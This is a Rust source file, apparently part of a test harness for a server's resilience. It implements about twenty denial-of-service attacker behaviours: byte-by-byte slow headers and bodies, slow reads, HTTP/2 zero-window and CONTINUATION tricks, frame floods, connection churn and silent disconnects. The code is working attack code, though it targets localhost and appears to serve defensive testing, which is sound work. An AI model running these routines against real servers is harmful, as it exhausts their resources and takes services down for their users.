//! Stages of a connection at which an attacker holds it.

use std::{future::pending, io};

use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, split},
    net::TcpStream,
    time,
};

use super::{
    super::raw_http2::{self, DATA, HEADERS, frame, preface, window_update},
    Attacker, Flood, Protocol, flood, kernel,
};

/// Size of an announced HTTP/2 frame that the attacker sends byte by byte.
const FRAME_SIZE: [u8; 3] = [0, 0x40, 0];

/// Streams of an HTTP/2 connection whose responses are not read.
const STREAMS: u32 = 84;

/// An attacker's behaviour.
#[derive(Debug, Clone, Copy)]
pub enum Stage {
    /// Sends nothing.
    SilentTcp,
    /// Sends a ClientHello byte by byte.
    SlowHandshake,
    /// Sends nothing after the handshake.
    SilentTls,
    /// Sends the head of a request byte by byte: over HTTP/2 the payload of HEADERS.
    SlowHead,
    /// Sends a header block in CONTINUATION frames of a byte, beside a request without a response. HTTP/2 only.
    SlowHeaderBlock,
    /// Sends the head of a request, and no byte of its body.
    SilentBody,
    /// Sends a body byte by byte.
    SlowBody,
    /// Reads nothing from its socket.
    Unread,
    /// Reads a response byte by byte: from its socket, or by an HTTP/2 window of 1 byte at a time.
    SlowRead,
    /// Opens no HTTP/2 window.
    WindowZero,
    /// Opens no HTTP/2 window for a rejection.
    WindowZeroRejected,
    /// Opens no window, and has [`STREAMS`] streams with a response each. HTTP/2 only.
    UnreadStreams,
    /// Switches protocols, and sends nothing. HTTP/1.1 only.
    IdleTunnel,
    /// Vanishes without a FIN after the handshake.
    Vanished,
    /// Vanishes while it reads a response.
    VanishedReader,
    /// Sends frames as fast as the server takes them. HTTP/2 only.
    Flood(Flood),
    /// Connects and disconnects in a loop.
    Churn,
    /// Sends nothing after the handshake, and connects again after ten times the pace when the connection ends.
    Renewed,
    /// Presents a certificate of its own making, and sends nothing after the rejection.
    OwnCertificate,
    /// Sends requests that are rejected in a loop.
    Rejected,
}

impl Stage {
    /// Holds a connection at this stage until it ends.
    pub(super) async fn run(self, attacker: Attacker) -> io::Result<()> {
        match self {
            Self::SilentTcp => {
                let socket = attacker.tcp().await?;
                attacker.reach();
                read_all(socket).await
            }
            Self::SlowHandshake => {
                let hello = attacker.target.client_hello(attacker.protocol);
                let socket = attacker.tcp().await?;
                attacker.reach();
                drip(socket, &attacker, hello.iter().map(|byte| vec![*byte])).await
            }
            Self::SilentTls => {
                let stream = attacker.tls().await?;
                attacker.reach();
                read_all(stream).await
            }
            Self::SlowHead => slow_head(&attacker).await,
            Self::SlowHeaderBlock => {
                let begun = frame(HEADERS, raw_http2::END_STREAM, 3, &[0]);
                let waiting = attacker.get(1, attacker.target.paths.silent);
                let stream = sent(&attacker, &[preface(65_535), waiting, begun].concat()).await?;
                let byte = frame(raw_http2::CONTINUATION, 0, 3, b"\x7f");
                drip(stream, &attacker, std::iter::repeat(byte)).await
            }
            Self::SilentBody => read_all(sent(&attacker, &upload_head(&attacker)).await?).await,
            Self::SlowBody => {
                let stream = sent(&attacker, &upload_head(&attacker)).await?;
                let byte = match attacker.protocol {
                    Protocol::Http1 => b"x".to_vec(),
                    Protocol::Http2 => frame(DATA, 0, 1, b"x"),
                };
                drip(stream, &attacker, std::iter::repeat(byte)).await
            }
            Self::Unread => {
                let mut stream = large(&attacker, 1 << 30).await?;
                attacker.reach();
                // Small responses need many requests to exceed the socket's buffers.
                match attacker.protocol {
                    Protocol::Http1 => loop {
                        stream.write_all(&large_request(&attacker)).await?;
                    },
                    Protocol::Http2 => pending().await,
                }
            }
            Self::SlowRead => slow_read(&attacker).await,
            Self::WindowZero => {
                let stream = large(&attacker, 0).await?;
                attacker.reach();
                read_all(stream).await
            }
            Self::WindowZeroRejected => {
                let request = [preface(0), attacker.get(1, attacker.target.paths.rejected)].concat();
                read_all(sent(&attacker, &request).await?).await
            }
            Self::UnreadStreams => {
                let paths = attacker.target.paths;
                let requests = (0..STREAMS).flat_map(|index| attacker.get(2 * index + 1, paths.large));
                let bytes: Vec<u8> = preface(0).into_iter().chain(requests).collect();
                read_all(sent(&attacker, &bytes).await?).await
            }
            Self::IdleTunnel => {
                let path = attacker.target.paths.tunnel;
                let upgrade = "connection: upgrade\r\nupgrade: chatter";
                let head = format!("GET {path} HTTP/1.1\r\nhost: localhost\r\n{upgrade}\r\n\r\n");
                let mut stream = attacker.tls().await?;
                stream.write_all(head.as_bytes()).await?;
                let mut response = [0; 4_096];
                let count = stream.read(&mut response).await?;
                assert!(response[..count].starts_with(b"HTTP/1.1 101 "), "the tunnel opens");
                attacker.reach();
                read_all(stream).await
            }
            Self::Vanished => {
                let stream = attacker.tls().await?;
                vanish(&attacker, stream.get_ref().0).await
            }
            Self::VanishedReader => {
                let stream = large(&attacker, 1 << 30).await?;
                vanish(&attacker, stream.get_ref().0).await
            }
            Self::Flood(flood) => flood::run(flood, &attacker).await,
            Self::Churn => {
                let mut is_first = true;
                loop {
                    // Ends of connections are part of the attack.
                    let connected = attacker.tls().await.is_ok();
                    if connected && std::mem::take(&mut is_first) {
                        attacker.reach();
                    }
                }
            }
            Self::Renewed => loop {
                // Ends of connections are part of the attack.
                if let Ok(stream) = attacker.tls().await {
                    attacker.reach();
                    let _ = read_all(stream).await;
                }
                time::sleep(10 * attacker.pace).await;
            },
            Self::OwnCertificate => {
                let socket = attacker.tcp().await?;
                let target = &attacker.target;
                let mut stream = target.handshake_with_own_certificate(socket, attacker.protocol).await?;
                stream.write_all(&rejected(&attacker)).await?;
                stream.flush().await?;
                stream.read_u8().await?;
                attacker.reach();
                read_all(stream).await
            }
            Self::Rejected => loop {
                let mut stream = attacker.tls().await?;
                for index in 0..50 {
                    let request = match attacker.protocol {
                        Protocol::Http1 => rejected(&attacker),
                        Protocol::Http2 if index == 0 => rejected(&attacker),
                        Protocol::Http2 => attacker.get(2 * index + 1, attacker.target.paths.rejected),
                    };
                    stream.write_all(&request).await?;
                    stream.flush().await?;
                    let mut response = [0; 4_096];
                    if stream.read(&mut response).await? == 0 {
                        break;
                    }
                    if index == 0 {
                        attacker.reach();
                    }
                }
            },
        }
    }
}

type Stream = tokio_rustls::client::TlsStream<TcpStream>;

/// Completes a handshake, and sends these bytes.
async fn sent(attacker: &Attacker, bytes: &[u8]) -> io::Result<Stream> {
    let mut stream = attacker.tls().await?;
    stream.write_all(bytes).await?;
    stream.flush().await?;
    attacker.reach();
    Ok(stream)
}

async fn slow_head(attacker: &Attacker) -> io::Result<()> {
    let start = match attacker.protocol {
        Protocol::Http1 => b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ".to_vec(),
        Protocol::Http2 => {
            let head = [&FRAME_SIZE[..], &[HEADERS, raw_http2::END_HEADERS], &1_u32.to_be_bytes()].concat();
            [preface(65_535), head].concat()
        }
    };
    drip(sent(attacker, &start).await?, attacker, std::iter::repeat(b"a".to_vec())).await
}

/// The head of a request with a body.
fn upload_head(attacker: &Attacker) -> Vec<u8> {
    let path = attacker.target.paths.upload;
    match attacker.protocol {
        Protocol::Http1 => {
            format!("POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n").into()
        }
        Protocol::Http2 => [preface(65_535), attacker.post(1, path)].concat(),
    }
}

/// A request that is rejected, the first of its connection.
fn rejected(attacker: &Attacker) -> Vec<u8> {
    let path = attacker.target.paths.rejected;
    match attacker.protocol {
        Protocol::Http1 => format!("GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n").into(),
        Protocol::Http2 => [preface(65_535), attacker.get(1, path)].concat(),
    }
}

fn large_request(attacker: &Attacker) -> Vec<u8> {
    format!("GET {} HTTP/1.1\r\nHost: localhost\r\n\r\n", attacker.target.paths.large).into()
}

/// Requests a large response, with this HTTP/2 window.
async fn large(attacker: &Attacker, window: u32) -> io::Result<Stream> {
    let request = match attacker.protocol {
        Protocol::Http1 => large_request(attacker),
        Protocol::Http2 => {
            let request = attacker.get(1, attacker.target.paths.large);
            [preface(window), window_update(0, 1 << 30), request].concat()
        }
    };
    let mut stream = attacker.reader_tls().await?;
    stream.write_all(&request).await?;
    stream.flush().await?;
    Ok(stream)
}

/// Reads a response a byte at a time.
async fn slow_read(attacker: &Attacker) -> io::Result<()> {
    match attacker.protocol {
        Protocol::Http1 => {
            let (mut socket, _) = large(attacker, 0).await?.into_inner();
            attacker.reach();
            loop {
                time::sleep(attacker.pace).await;
                if socket.read(&mut [0]).await? == 0 {
                    return Ok(());
                }
            }
        }
        Protocol::Http2 => {
            let request = [preface(0), attacker.get(1, attacker.target.paths.large)].concat();
            let stream = sent(attacker, &request).await?;
            drip(stream, attacker, std::iter::repeat(window_update(1, 1))).await
        }
    }
}

async fn vanish(attacker: &Attacker, socket: &TcpStream) -> io::Result<()> {
    kernel::vanish(socket);
    attacker.reach();
    pending().await
}

/// Reads until the connection ends.
async fn read_all(mut stream: impl AsyncRead + Unpin) -> io::Result<()> {
    let mut bytes = [0; 16_384];
    while stream.read(&mut bytes).await? > 0 {}
    Ok(())
}

/// Sends the pieces at the attacker's pace, and reads until the connection ends.
async fn drip(
    stream: impl AsyncRead + AsyncWrite,
    attacker: &Attacker,
    pieces: impl Iterator<Item = Vec<u8>>,
) -> io::Result<()> {
    let (read, mut write) = split(stream);
    let sending = async {
        for piece in pieces {
            time::sleep(attacker.pace).await;
            write.write_all(&piece).await?;
            write.flush().await?;
        }
        pending::<io::Result<()>>().await
    };
    tokio::select! {
        ended = read_all(read) => ended,
        failed = sending => failed,
    }
}
